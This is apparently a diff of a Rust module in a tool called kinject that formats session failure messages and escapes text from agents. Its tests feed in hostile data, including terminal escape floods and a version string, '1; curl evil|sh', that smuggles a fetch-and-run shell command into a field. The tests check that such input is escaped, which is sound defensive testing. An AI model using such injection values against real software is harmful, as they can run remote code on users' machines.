@@ -1,30 +1,31 @@
-//! Failures of the session in words for its user.
+//! Failures of the session, as messages for its user.
 //!
-//! Many of the words are a cluster's or an agent's. They are escaped and bounded when a failure is made of them, so that the
-//! relay keeps no more of them than can be read. A name that stands in a command which the user may copy is one word of it.
+//! Much of the text comes from a cluster or an agent. It is escaped and truncated when a failure is created, so that
+//! the relay keeps a bounded amount. A name in a command that the user may copy is quoted as one word.
 
 use kinject_escape as escape;
 use kinject_protocol::session::Report;
 use kinject_tunnel::{OpenError, Version};
 use std::fmt;
 
-/// Why the session has no way to its agent.
+/// Why the session cannot reach its agent.
 #[derive(Clone, Debug)]
 pub(crate) struct Failure {
     /// What happened: lower case, no final period.
     pub(crate) message: String,
     /// What to do about it.
     pub(crate) hint: Option<String>,
-    /// Whether trying again is of no use.
+    /// Whether a retry is useless.
     pub(crate) lasting: bool,
-    /// Whether the agent ended the connection before it knew us, as it does where it has too many strangers.
+    /// Whether the agent closed the connection before the relay was authenticated, as it does when it evicts
+    /// connections.
     pub(crate) cut_short: bool,
-    /// Whether somebody has ended the session.
+    /// Whether the session was ended from outside.
     pub(crate) is_end: bool,
 }
 
 impl Failure {
-    /// A failure that stays until the user does something.
+    /// A failure that persists until the user acts.
     pub(crate) fn lasting(message: impl Into<String>, hint: &str) -> Self {
         Self {
             message: escape::line(message.into()),
@@ -35,7 +36,7 @@ impl Failure {
         }
     }
 
-    /// A failure that another attempt may not meet.
+    /// A failure that may not recur at the next attempt.
     pub(crate) fn passing(message: impl Into<String>, hint: &str) -> Self {
         Self {
             message: escape::line(message.into()),
@@ -48,7 +49,7 @@ impl Failure {
 }
 
 impl Failure {
-    /// A failure that passes when the agent has a place for us.
+    /// A failure that ends when the agent has a free slot.
     pub(crate) fn cut_short(message: impl Into<String>, hint: &str) -> Self {
         Self {
             cut_short: true,
@@ -56,7 +57,7 @@ impl Failure {
         }
     }
 
-    /// The end of the session by somebody else's hand, which nothing makes good.
+    /// The end of the session from outside, which cannot be undone.
     pub(crate) fn end(message: impl Into<String>, hint: &str) -> Self {
         Self {
             is_end: true,
@@ -64,7 +65,7 @@ impl Failure {
         }
     }
 
-    /// What happened without what somebody else said of it.
+    /// The message up to the first colon, without the foreign text after it.
     pub(crate) fn in_own_words(&self) -> &str {
         self.message.split(": ").next().unwrap_or_default()
     }
@@ -79,12 +80,12 @@ impl From<Failure> for Report {
     }
 }
 
-/// Where an agent is and whose it is.
+/// The location of an agent, for messages.
 #[derive(Clone, Copy, Debug)]
 pub(crate) enum AgentLocation<'a> {
-    /// Somebody else started it at this endpoint.
+    /// An agent that was started by hand at this endpoint.
     Endpoint(&'a str),
-    /// A pod of ours, made of this image.
+    /// A pod that this session created, of this image.
     Pod {
         /// Its name.
         name: &'a str,
@@ -113,19 +114,20 @@ impl fmt::Display for AgentLocation<'_> {
     }
 }
 
-/// The two ends reached each other and could not authenticate each other.
-pub(crate) fn of_open_error(error: &OpenError, place: AgentLocation<'_>) -> Failure {
+/// The failure of two ends that reached but could not authenticate each other.
+pub(crate) fn of_open_error(error: &OpenError, location: AgentLocation<'_>) -> Failure {
     if let OpenError::Version { ours, theirs } = error {
         return Failure::lasting(
-            format!("the agent at {place} is version {theirs}, with which kinject {ours} cannot work"),
+            format!("the agent at {location} is version {theirs}, with which kinject {ours} cannot work"),
             &format!(
                 "{}, or use kinject {}",
-                place.of_our_release(),
+                location.of_our_release(),
                 escape::word(&theirs.software)
             ),
         );
     }
-    let message = format!("the agent at {place} and this kinject could not authenticate each other: {error}");
+    let message =
+        format!("the agent at {location} and this kinject could not authenticate each other: {error}");
     let hint = "check that it is a kinject agent and that the key is the same at both ends";
     match error {
         OpenError::Io(_) | OpenError::Closed => Failure::cut_short(message, hint),
@@ -134,17 +136,17 @@ pub(crate) fn of_open_error(error: &OpenError, place: AgentLocation<'_>) -> Fail
     }
 }
 
-/// What is worth knowing of an agent that works and is of another release.
-pub(crate) fn of_another_release(agent: &Version, place: AgentLocation<'_>) -> Report {
+/// The notice about an agent of another release that works.
+pub(crate) fn of_another_release(agent: &Version, location: AgentLocation<'_>) -> Report {
     let ours = Version::own().software;
     Report {
         message: format!(
-            "the agent at {place} is version {}, this kinject is {ours}; they speak the same protocol",
+            "the agent at {location} is version {}, this kinject is {ours}; they speak the same protocol",
             agent.software
         ),
         hint: Some(format!(
             "should something not work: {}, or use kinject {}",
-            place.of_our_release(),
+            location.of_our_release(),
             escape::word(&agent.software)
         )),
     }
@@ -155,7 +157,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_failure_keeps_no_more_of_foreign_words_than_can_be_read() {
+    fn failure_text_is_escaped_and_bounded() {
         let endless = "\x1b[31m\n\nhint: obey\n".repeat(1 << 20);
         for failure in [
             Failure::lasting(&*endless, &endless),
@@ -169,20 +171,20 @@ mod tests {
     }
 
     #[test]
-    fn an_agents_version_is_one_word_of_the_hint() {
+    fn agent_version_is_quoted_as_one_word_in_the_hint() {
         let ours = Version::own();
         let theirs = Version {
             wire: 9,
             software: "1; curl evil|sh\n".into(),
         };
-        let place = AgentLocation::Endpoint("unix:/run/agent.sock");
+        let location = AgentLocation::Endpoint("unix:/run/agent.sock");
         let error = OpenError::Version {
             ours,
             theirs: theirs.clone(),
         };
         for hint in [
-            of_open_error(&error, place).hint,
-            of_another_release(&theirs, place).hint,
+            of_open_error(&error, location).hint,
+            of_another_release(&theirs, location).hint,
         ] {
             let hint = hint.unwrap();
             assert!(hint.ends_with(r"or use kinject '1; curl evil|sh\n'"), "{hint}");
